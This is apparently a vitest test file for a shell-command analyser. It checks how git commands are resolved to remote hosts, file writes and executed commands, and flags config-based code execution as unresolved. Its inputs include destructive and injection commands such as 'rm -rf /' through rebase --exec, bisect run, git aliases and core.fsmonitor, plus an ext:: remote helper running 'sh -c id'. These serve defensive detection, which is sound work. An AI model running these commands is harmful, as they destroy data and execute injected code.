// git (docs/shell.md): remotes read from .git/config at decision time, never by running git.

import fs from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { clearGitConfigCache } from '../../../src/describe/shell/index.js';
import { at, ctx, describe_, execs, forms, hosts, root, unresolvedWhys } from './helpers.js';

const repo = path.join(root, 'repo');
const repoCtx = { ...ctx, cwd: repo };

function writeConfig(text: string): void {
  fs.mkdirSync(path.join(repo, '.git'), { recursive: true });
  fs.writeFileSync(path.join(repo, '.git', 'config'), text);
  clearGitConfigCache();
}

beforeEach(() => {
  writeConfig(
    [
      '[core]',
      '\trepositoryformatversion = 0',
      '[remote "origin"]',
      '\turl = git@GitHub.com:me/project.git',
      '\tfetch = +refs/heads/*:refs/remotes/origin/*',
      '[remote "mirror"]',
      '\turl = https://gitlab.example.org/me/project.git',
      '\tpushurl = ssh://git@push.example.org/me/project.git',
      '[branch "main"]',
      '\tremote = origin',
    ].join('\n'),
  );
});

describe('remote operations', () => {
  test('a named remote is looked up in the repository config', async () => {
    expect(hosts(await describe_('git push', repoCtx))).toEqual(['github.com']);
    expect(hosts(await describe_('git fetch mirror', repoCtx))).toEqual(['gitlab.example.org']);
    expect(hosts(await describe_('git push mirror main', repoCtx))).toEqual(['push.example.org']);
    expect(hosts(await describe_('git pull --rebase origin main', repoCtx))).toEqual(['github.com']);
    expect(hosts(await describe_('git fetch --all', repoCtx))).toEqual(['github.com', 'gitlab.example.org']);
    expect(hosts(await describe_('git remote update', repoCtx))).toEqual(['github.com', 'gitlab.example.org']);
    expect(hosts(await describe_('cd sub && git push', repoCtx))).toEqual(['?unreadable git config']);
  });

  test('a literal URL gives its host', async () => {
    expect(hosts(await describe_('git push https://evil.example/x.git main', repoCtx))).toEqual(['evil.example']);
    expect(hosts(await describe_('git ls-remote git@Other.io:x/y', repoCtx))).toEqual(['other.io']);
    const clone = await describe_('git clone https://github.com/a/b.git', repoCtx);
    expect(hosts(clone)).toEqual(['github.com']);
    expect(forms(clone, 'file.write', 'reach')).toEqual([path.join(repo, 'b')]);
  });

  test('remote helpers and ext:: are unresolved', async () => {
    expect(hosts(await describe_("git fetch 'ext::sh -c id'", repoCtx))).toEqual(['?git remote helper']);
    expect(unresolvedWhys(await describe_("git fetch 'ext::sh -c id'", repoCtx))).toContain('dynamic command');
  });

  test('insteadOf rewrites are applied', async () => {
    writeConfig('[remote "origin"]\n\turl = gh:me/x\n[url "https://github.com/"]\n\tinsteadOf = gh:\n');
    expect(hosts(await describe_('git fetch', repoCtx))).toEqual(['github.com']);
  });

  test('an unknown remote, a missing repository or an include is unresolved', async () => {
    // Not a configured remote: git takes it as a path to a repository.
    expect(forms(await describe_('git push nowhere', repoCtx), 'file.write', 'reach')).toEqual([path.join(repo, 'nowhere')]);
    expect(hosts(await describe_('git push', { ...ctx, cwd: '/' }))).toEqual(['?unreadable git config']);
    writeConfig('[include]\n\tpath = other\n[remote "origin"]\n\turl = https://a.io/x\n');
    expect(hosts(await describe_('git push', repoCtx))).toEqual(['?unreadable git config']);
    expect(hosts(await describe_('git push $R', repoCtx))).toEqual(['?dynamic host']);
  });

  test('git -C moves the repository', async () => {
    expect(hosts(await describe_(`git -C ${repo} push`))).toEqual(['github.com']);
  });
});

describe('git config and code execution', () => {
  test.each([
    ['git -c core.pager=x log'],
    ['git -c alias.st=!rm status'],
    ['git --exec-path=/tmp status'],
    ['git --git-dir=/tmp/x status'],
    ['git --work-tree=/ status'],
    ['git --config-env=core.pager=X log'],
    ['git config core.fsmonitor "rm -rf /"'],
    ['git config alias.x "!rm -rf /"'],
    ['git config diff.x.command evil'],
    ['git config --global core.editor evil'],
    ['git config set core.pager evil'],
    ['git config remote.origin.url https://evil/x'],
    ['git config -e'],
    ['git clone -c core.hooksPath=/tmp https://a.io/x'],
  ])('%j: git config (argv known)', async (line) => {
    const actions = await describe_(line, repoCtx);
    expect(actions[0]!.unresolved).toContainEqual({ what: 'command', why: 'git config' });
    expect(typeof actions[0]!.argv![0]).toBe('string');
  });

  test('reading config and plain subcommands stay resolved', async () => {
    for (const line of ['git status', 'git log --oneline -5', 'git config --get user.name', 'git config user.name', 'git diff HEAD~1']) {
      expect(unresolvedWhys(await describe_(line, repoCtx))).toEqual([]);
    }
  });

  test('a local config write is a write of .git/config', async () => {
    expect(forms(await describe_('git config user.name me', repoCtx), 'file.write')).toEqual([path.join(repo, '.git/config')]);
  });

  test('an unknown subcommand may be an alias', async () => {
    expect(unresolvedWhys(await describe_('git st', repoCtx))).toContain('dynamic command: git alias');
  });

  test('rebase --exec, bisect run and submodule foreach run commands', async () => {
    expect(await execs("git rebase -x 'rm -rf /' main", repoCtx)).toContain('rm -rf /');
    expect(await execs('git bisect run rm -rf /', repoCtx)).toContain('rm -rf /');
    expect(await execs("git submodule foreach 'rm -rf /'", repoCtx)).toContain('rm -rf /');
  });

  test('--output and diff --no-index', async () => {
    expect(forms(await describe_('git diff --output=patch.txt', repoCtx), 'file.write')).toEqual([path.join(repo, 'patch.txt')]);
    expect(forms(await describe_('git diff --no-index a b', { ...ctx }), 'file.read', 'reach')).toEqual([at('a'), at('b')]);
  });
});
